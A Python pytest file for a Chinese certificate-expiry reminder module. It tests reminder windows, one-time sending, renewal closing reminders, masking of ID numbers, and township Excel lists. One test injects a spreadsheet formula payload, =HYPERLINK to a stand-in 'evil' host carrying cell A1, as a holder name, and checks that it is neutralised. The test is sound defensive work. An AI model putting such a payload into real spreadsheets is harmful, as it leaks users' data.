"""证照到期提醒: windows per type, each reminder once, renewal stops it, lists and log name nobody."""

from __future__ import annotations

import datetime as dt
import json
import stat
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from catalog_records import LICENCE_TYPE, Records

from catalog import Catalog, certificates, log_leaves, use_subjects
from catalog._schema import expiry_notices, expiry_reminders
from evidence.certificate import STATUS_CANCELLED, STATUS_SUPERSEDED
from evidence.commitment import subject_commitment
from evidence.keys import SigningKey
from evidence.log import KIND_REMINDER, TransparencyLog
from onceonly.errors import ConfigurationError
from sharing.reminders import (
    LIST_HEADERS,
    STATUS_EXPIRED,
    STATUS_OPEN,
    STATUS_RENEWED,
    STATUS_RESENT,
    STATUS_VOID,
    ReminderPolicy,
    Sent,
    TypeWindows,
    find_reminders,
    listed_reminders,
    load_policy,
    mark_delivered,
    send_reminders,
    write_reminder_files,
)

REPO = Path(__file__).resolve().parents[3]
CONTRACTS = REPO / "contracts" / "datasets"
DAY = dt.date(2026, 12, 3)
ORIGIN = "onceonly.example/test/evidence"
# A personal certificate type (a 残疾人证-like one): names and ID numbers masked.
PERSONAL_TYPE = ("11100000MB0000000X001", "11120114MB1K03754L", "disability", "残疾人证")
COMPANY = "91120114MA05K1234X"
PERSON = "120114199003071234"
OTHER_PERSON = "120114198512250021"

LICENCE = TypeWindows(
    type_code=LICENCE_TYPE[0],
    type_name="营业执照",
    dataset="business_licence",
    windows=(7, 60),
    mask_names=False,
    id_type="统一社会信用代码",
)
PERSONAL = TypeWindows(
    type_code=PERSONAL_TYPE[0],
    type_name="残疾人证",
    dataset="disability",
    windows=(30,),
    mask_names=True,
    id_type="居民身份证",
)
POLICY = ReminderPolicy({LICENCE.type_code: LICENCE, PERSONAL.type_code: PERSONAL}, "test")


@pytest.fixture
def log() -> TransparencyLog:
    return TransparencyLog(SigningKey.generate(ORIGIN), ORIGIN)


def _licence(records: Records, holder: str, valid_to: dt.date | None, **kw: Any) -> str:
    return records.certificate(
        holder, LICENCE_TYPE, valid_to=valid_to, record_key=kw.pop("record_key", holder), **kw
    )


def _run(catalog: Catalog, log: TransparencyLog, day: dt.date, policy: ReminderPolicy = POLICY) -> Sent:
    with catalog.read() as conn:
        plan = find_reminders(conn, policy, day)
    with catalog.begin() as conn:
        return send_reminders(conn, log, plan, policy, township_names={"120114001000": "杨村街道"})


def _reminders(catalog: Catalog) -> list[sa.Row[tuple[object, ...]]]:
    with catalog.read() as conn:
        return list(conn.execute(sa.select(expiry_reminders).order_by(expiry_reminders.c.leaf_index)))


# --------------------------------------------------------------------------------------------
# The policy file


def test_the_shipped_windows_load_against_the_contracts() -> None:
    policy = load_policy(REPO / "sharing" / "reminders.yaml", CONTRACTS)
    by_name = {t.type_name: t for t in policy.types.values()}
    licence = by_name["营业执照"]
    assert (licence.windows, licence.dataset, licence.mask_names) == ((7, 60), "business_licence", False)
    # Types whose contract carries no valid_to never expire: no window, whatever the default.
    assert not {"不动产权证书", "居民户口簿", "结婚证", "出生医学证明", "社会保险参保证明"} & set(by_name)
    assert policy.with_days(90).types[licence.type_code].windows == (90,)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("default: 30\ntypes:\n  营业执照: 60\n  驾驶证: 30\n", ":4: unknown certificate type '驾驶证'"),
        ("default: 30\ntypes:\n  营业执照: [60, -7]\n", ":3: 营业执照: -7 days is negative"),
        ("default: -1\n", ":1: default: -1 days is negative"),
        (
            "types:\n  不动产权证书: 90\n",
            ":2: 不动产权证书 does not expire: its contract (property_right.yaml)",
        ),
        ("default: 30\nwindows: 3\n", ":2: windows: Extra inputs are not permitted"),
        (
            "types:\n  营业执照: 60\n  营业执照: 7\n",
            ":3: cannot read the reminder windows: key '营业执照' appears twice",
        ),
    ],
)
def test_a_bad_policy_names_the_file_and_line(tmp_path: Path, text: str, problem: str) -> None:
    path = tmp_path / "reminders.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigurationError) as caught:
        load_policy(path, CONTRACTS)
    assert f"{path}{problem}" in str(caught.value)


def test_a_type_by_code_the_default_for_the_rest_and_an_empty_list_opts_out(tmp_path: Path) -> None:
    path = tmp_path / "reminders.yaml"
    path.write_text(f"default: 45\ntypes:\n  '{LICENCE_TYPE[0]}': [10, 3]\n", encoding="utf-8")
    assert load_policy(path, CONTRACTS).types[LICENCE_TYPE[0]].windows == (3, 10)
    path.write_text("default: 45\n", encoding="utf-8")
    assert load_policy(path, CONTRACTS).types[LICENCE_TYPE[0]].windows == (45,)
    path.write_text("default: 45\ntypes:\n  营业执照: []\n", encoding="utf-8")
    assert LICENCE_TYPE[0] not in load_policy(path, CONTRACTS).types
    path.write_text("types:\n  营业执照: 60\n", encoding="utf-8")  # no default: only the listed
    assert [t.type_name for t in load_policy(path, CONTRACTS).types.values()] == ["营业执照"]


# --------------------------------------------------------------------------------------------
# Which certificates, and each once


def test_the_window_is_per_type(records: Records, catalog: Catalog) -> None:
    in_60 = _licence(records, COMPANY, DAY + dt.timedelta(days=50))
    in_7 = _licence(records, "91120114MA05K2222X", DAY + dt.timedelta(days=5))
    _licence(records, "91120114MA05K3333X", DAY + dt.timedelta(days=70))  # beyond 60
    _licence(records, "91120114MA05K4444X", DAY - dt.timedelta(days=1))  # expired already
    _licence(records, "91120114MA05K5555X", None)  # 长期
    personal = records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=25))
    records.certificate(OTHER_PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=40))  # beyond 30
    records.certificate(PERSON, PERSONAL_TYPE, serial=99, valid_to=DAY, status=STATUS_CANCELLED)
    with catalog.read() as conn:
        plan = find_reminders(conn, POLICY, DAY)
    assert {(d.cert_id, d.window_days, d.days_left) for d in plan.due} == {
        (in_60, 60, 50),
        (in_7, 7, 5),
        (personal, 30, 25),
    }


def test_a_reminder_is_sent_once_then_the_last_window_once(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    cert = _licence(records, COMPANY, DAY + dt.timedelta(days=50))
    first = _run(catalog, log, DAY)
    assert [(d.cert_id, d.window_days) for d in first.reminders] == [(cert, 60)]
    assert len(first.notices) == 1
    for day in (DAY, DAY + dt.timedelta(days=1), DAY + dt.timedelta(days=30)):
        again = _run(catalog, log, day)
        assert (again.reminders, again.notices, again.tree_size) == ((), (), None), day
    last = _run(catalog, log, DAY + dt.timedelta(days=44))  # 6 days left: the 7-day window
    assert [(d.cert_id, d.window_days, d.days_left) for d in last.reminders] == [(cert, 7, 6)]
    assert _run(catalog, log, DAY + dt.timedelta(days=45)).reminders == ()
    # The 60-day reminder is closed when the 7-day one is sent: one open row per lineage.
    assert [(r.window_days, r.status) for r in _reminders(catalog)] == [(60, STATUS_RESENT), (7, STATUS_OPEN)]


def test_a_run_that_missed_the_first_window_sends_only_the_last(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    _licence(records, COMPANY, DAY + dt.timedelta(days=3))
    assert [d.window_days for d in _run(catalog, log, DAY).reminders] == [7]
    assert _run(catalog, log, DAY + dt.timedelta(days=1)).reminders == ()


def test_a_plan_sent_by_another_run_meanwhile_is_not_sent_again(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    _licence(records, COMPANY, DAY + dt.timedelta(days=50))
    with catalog.read() as conn:
        plan = find_reminders(conn, POLICY, DAY)
    with catalog.begin() as conn:
        assert len(send_reminders(conn, log, plan, POLICY).reminders) == 1
    with catalog.begin() as conn:
        late = send_reminders(conn, log, plan, POLICY)
    assert (late.reminders, late.skipped, late.tree_size) == ((), 1, None)
    assert len(_reminders(catalog)) == 1


def test_a_new_version_with_the_same_valid_to_is_not_reminded_again(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    valid_to = DAY + dt.timedelta(days=50)
    old = _licence(records, COMPANY, valid_to, serial=7)
    assert len(_run(catalog, log, DAY).reminders) == 1
    with catalog.begin() as conn:  # the address changed: version 2, same 营业期限
        conn.execute(
            sa.update(certificates).where(certificates.c.cert_id == old).values(status=STATUS_SUPERSEDED)
        )
    _licence(records, COMPANY, valid_to, serial=7, version=2, previous=old)
    sent = _run(catalog, log, DAY + dt.timedelta(days=1))
    assert (sent.reminders, sent.closed) == ((), ())
    assert [r.status for r in _reminders(catalog)] == [STATUS_OPEN]


# --------------------------------------------------------------------------------------------
# Renewal stops it; expiry and cancellation close it


def test_renewal_closes_the_reminder_and_stops_the_next(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    old = _licence(records, COMPANY, DAY + dt.timedelta(days=50), serial=7)
    assert len(_run(catalog, log, DAY).reminders) == 1
    with catalog.begin() as conn:  # renewed: version 2, valid for 20 more years; version 1 失效
        conn.execute(
            sa.update(certificates).where(certificates.c.cert_id == old).values(status=STATUS_SUPERSEDED)
        )
    new = _licence(records, COMPANY, dt.date(2046, 12, 3), serial=7, version=2, previous=old)
    sent = _run(catalog, log, DAY + dt.timedelta(days=1))
    assert sent.reminders == ()
    assert [(c.cert_id, c.status, c.closed_by) for c in sent.closed] == [(old, STATUS_RENEWED, new)]
    (row,) = _reminders(catalog)
    assert (row.status, row.closed_by, row.closed_on) == (STATUS_RENEWED, new, DAY + dt.timedelta(days=1))
    # Past the 7-day window of the old valid_to: nothing, the lineage is renewed.
    assert _run(catalog, log, DAY + dt.timedelta(days=45)).reminders == ()
    assert _run(catalog, log, DAY + dt.timedelta(days=46)).closed == ()


def test_another_certificate_with_a_later_valid_to_means_no_reminder(
    records: Records, catalog: Catalog
) -> None:
    _licence(records, COMPANY, DAY + dt.timedelta(days=50), serial=7, record_key="R1")
    _licence(
        records, COMPANY, DAY + dt.timedelta(days=3650), serial=8, version=2, record_key="R1"
    )  # both 有效
    _licence(records, COMPANY, DAY + dt.timedelta(days=20), serial=9, record_key="R2")  # another record
    with catalog.read() as conn:
        plan = find_reminders(conn, POLICY, DAY)
    assert [(d.record_key, d.days_left) for d in plan.due] == [("R2", 20)]


def test_expired_and_cancelled_reminders_are_closed(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    expiring = _licence(records, COMPANY, DAY + dt.timedelta(days=5))
    cancelled = _licence(records, "91120114MA05K2222X", DAY + dt.timedelta(days=20))
    assert len(_run(catalog, log, DAY).reminders) == 2
    with catalog.begin() as conn:
        conn.execute(
            sa.update(certificates).where(certificates.c.cert_id == cancelled).values(status=STATUS_CANCELLED)
        )
    sent = _run(catalog, log, DAY + dt.timedelta(days=6))
    assert sorted((c.cert_id, c.status) for c in sent.closed) == sorted(
        [(expiring, STATUS_EXPIRED), (cancelled, STATUS_VOID)]
    )


# --------------------------------------------------------------------------------------------
# Notices, lists and the log: nobody in clear where they should not be


def test_one_notice_per_subject_listing_their_certificates(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    a = records.certificate(PERSON, PERSONAL_TYPE, serial=1, valid_to=DAY + dt.timedelta(days=10))
    b = records.certificate(PERSON, PERSONAL_TYPE, serial=2, valid_to=DAY + dt.timedelta(days=20))
    records.certificate(OTHER_PERSON, PERSONAL_TYPE, serial=3, valid_to=DAY)
    sent = _run(catalog, log, DAY)
    assert sorted(n.reminders for n in sent.notices) == [1, 2]
    (mine,) = [n for n in sent.notices if n.subject_id == PERSON]
    assert mine.text.startswith("【证照到期提醒】尊敬的张*：")
    assert f"1. 残疾人证（证照标识 {a}），有效期至2026年12月13日，还有10天到期。" in mine.text
    assert f"2. 残疾人证（证照标识 {b}）" in mine.text and "杨村街道便民服务中心" in mine.text
    assert PERSON not in mine.text
    (other,) = [n for n in sent.notices if n.subject_id == OTHER_PERSON]
    assert "今日到期" in other.text
    with catalog.begin() as conn:
        assert mark_delivered(conn, [mine.notice_id, mine.notice_id]) == 1
        assert mark_delivered(conn, [mine.notice_id]) == 0
    with catalog.read() as conn:
        delivered = conn.execute(
            sa.select(expiry_notices.c.notice_id).where(expiry_notices.c.delivered_at.is_not(None))
        )
        assert list(delivered.scalars()) == [mine.notice_id]


def test_the_log_leaves_commit_to_the_holder_and_name_nobody(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    cert = records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=10))
    sent = _run(catalog, log, DAY)
    assert sent.tree_size is not None
    with catalog.read() as conn:
        leaves = conn.execute(sa.select(log_leaves).where(log_leaves.c.kind == KIND_REMINDER)).all()
        salts = {r.leaf_index: (r.subject_id, bytes(r.salt)) for r in conn.execute(sa.select(use_subjects))}
    (leaf,) = leaves
    entry = json.loads(leaf.entry)
    assert (leaf.ref, entry["certificate"], entry["event"], entry["window_days"]) == (cert, cert, "sent", 30)
    assert PERSON.encode() not in leaf.entry and "张三".encode() not in leaf.entry
    assert "valid_to" not in entry and PERSON[6:14] not in leaf.entry.decode()
    subject, salt = salts[leaf.leaf_index]
    assert subject == PERSON and entry["subject_commitment"] == subject_commitment(salt, PERSON)


def test_the_township_list_opens_with_chinese_headers_and_no_clear_id(
    records: Records, catalog: Catalog, log: TransparencyLog, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=10))
    hostile = records.certificate(OTHER_PERSON, PERSONAL_TYPE, serial=5, valid_to=DAY + dt.timedelta(days=11))
    _licence(records, COMPANY, DAY + dt.timedelta(days=40), township="120114002000")
    with catalog.begin() as conn:
        conn.execute(
            sa.update(certificates)
            .where(certificates.c.cert_id == hostile)
            .values(holder_name='=HYPERLINK("http://evil/?"&A1,"x")')
        )
        conn.execute(
            sa.update(certificates)
            .where(certificates.c.holder_id == COMPANY)
            .values(holder_name="@天津某某有限公司")
        )
    _run(catalog, log, DAY)
    out = tmp_path / "reminders"
    with catalog.read() as conn:
        written = write_reminder_files(conn, POLICY, out, DAY, township_names={"120114001000": "杨村街道"})
    assert sorted(written.lists) == ["120114001000", "120114002000"]
    path, rows = written.lists["120114001000"]
    assert path == out / "2026-12-03" / "township=120114001000" / "到期提醒.xlsx" and rows == 2
    sheet = load_workbook(path).active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert tuple(values[0]) == LIST_HEADERS and values[0][:3] == ["序号", "镇街代码", "镇街"]
    text = json.dumps(values, default=str, ensure_ascii=False)
    assert PERSON not in text and OTHER_PERSON not in text
    assert "120114********1234" in text and "杨村街道" in text and "待换证" in text
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula anywhere
    assert any(str(v).startswith("'=*") for row in values for v in row)  # the masked formula, as text
    company = load_workbook(written.lists["120114002000"][0]).active
    assert company is not None
    row = [c.value for c in company[2]]
    assert "911201********234X" in row and COMPANY not in row  # the USCC masked too
    assert "'@天津某某有限公司" in row  # a public name readable, as text
    assert isinstance(row[7], dt.datetime) and row[7].date() == DAY + dt.timedelta(days=40)
    for file in (path, written.outbox):
        assert file is not None and stat.S_IMODE(file.stat().st_mode) == 0o600
    for folder in (path.parent, path.parent.parent, out):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def test_the_outbox_is_what_a_gateway_takes(
    records: Records, catalog: Catalog, log: TransparencyLog, tmp_path: Path
) -> None:
    records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=10))
    sent = _run(catalog, log, DAY)
    with catalog.read() as conn:
        written = write_reminder_files(conn, POLICY, tmp_path, DAY)
        # a second write the same day rewrites the same notices, once each
        written = write_reminder_files(conn, POLICY, tmp_path, DAY)
    assert written.outbox is not None and written.notices == 1
    (line,) = written.outbox.read_text(encoding="utf-8").splitlines()
    notice = json.loads(line)
    assert notice["notice_id"] == sent.notices[0].notice_id
    assert notice["recipient"] == {"id_type": "居民身份证", "id": PERSON}
    assert notice["channel"] == "sms" and notice["text"].startswith("【证照到期提醒】")


def test_the_list_of_open_reminders_is_masked(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=10))
    _run(catalog, log, DAY)
    with catalog.read() as conn:
        (item,) = listed_reminders(conn, POLICY, DAY + dt.timedelta(days=1))
        assert listed_reminders(conn, POLICY, DAY, township="120114002000") == []
    assert (item.holder_shown, item.id_shown, item.days_left, item.new) == (
        "张*",
        "120114********1234",
        9,
        False,
    )


def test_the_smaller_window_closes_the_larger_so_the_list_shows_one_row_and_renewal_closes_one(
    records: Records, catalog: Catalog, log: TransparencyLog
) -> None:
    old = _licence(records, COMPANY, DAY + dt.timedelta(days=50), serial=7)
    _run(catalog, log, DAY)
    later = DAY + dt.timedelta(days=44)  # 6 days left: the 7-day window
    last = _run(catalog, log, later)
    assert [d.window_days for d in last.reminders] == [7]
    assert [(c.cert_id, c.window_days, c.status) for c in last.closed] == [(old, 60, STATUS_RESENT)]
    with catalog.read() as conn:
        assert [(i.cert_id, i.window_days) for i in listed_reminders(conn, POLICY, later)] == [(old, 7)]
        resent = listed_reminders(conn, POLICY, later, statuses=(STATUS_RESENT,))
        assert [(i.window_days, i.status) for i in resent] == [(7, STATUS_OPEN), (60, STATUS_RESENT)]
        logged = [json.loads(e) for (e,) in conn.execute(sa.select(log_leaves.c.entry)) if e]
    events = [(e["event"], e["window_days"], e.get("status")) for e in logged if e["kind"] == KIND_REMINDER]
    assert events == [("sent", 60, None), ("sent", 7, None), ("closed", 60, STATUS_RESENT)]
    with catalog.begin() as conn:  # renewed: the one open reminder is closed, once
        conn.execute(
            sa.update(certificates).where(certificates.c.cert_id == old).values(status=STATUS_SUPERSEDED)
        )
    new = _licence(records, COMPANY, dt.date(2046, 12, 3), serial=7, version=2, previous=old)
    renewed = _run(catalog, log, later + dt.timedelta(days=1))
    assert [(c.window_days, c.status, c.closed_by) for c in renewed.closed] == [(7, STATUS_RENEWED, new)]


def test_notices_sent_by_a_run_that_died_before_writing_reach_an_outbox(
    records: Records, catalog: Catalog, log: TransparencyLog, tmp_path: Path
) -> None:
    records.certificate(PERSON, PERSONAL_TYPE, valid_to=DAY + dt.timedelta(days=10))
    lost = _run(catalog, log, DAY)  # sent, then the run died before record-reminders
    (notice,) = lost.notices
    assert not (tmp_path / DAY.isoformat()).exists()
    next_day = DAY + dt.timedelta(days=1)
    records.certificate(OTHER_PERSON, PERSONAL_TYPE, valid_to=next_day + dt.timedelta(days=10))
    today = _run(catalog, log, next_day)
    with catalog.read() as conn:
        written = write_reminder_files(conn, POLICY, tmp_path, next_day)
    assert written.notices == 1 and written.outbox == tmp_path / next_day.isoformat() / "notices.jsonl"
    assert json.loads(written.outbox.read_text(encoding="utf-8"))["notice_id"] == today.notices[0].notice_id
    (again,) = written.rewritten
    assert again == tmp_path / DAY.isoformat() / "notices.jsonl"
    assert stat.S_IMODE(again.stat().st_mode) == 0o600
    (line,) = again.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["notice_id"] == notice.notice_id and json.loads(line)["recipient"]["id"] == PERSON
    with catalog.read() as conn:  # complete now: not written again
        assert write_reminder_files(conn, POLICY, tmp_path, next_day).rewritten == ()
    again.unlink()
    with catalog.begin() as conn:  # delivered meanwhile: nothing to write again
        assert mark_delivered(conn, [notice.notice_id]) == 1
    with catalog.read() as conn:
        assert write_reminder_files(conn, POLICY, tmp_path, next_day).rewritten == ()
    assert not again.exists()
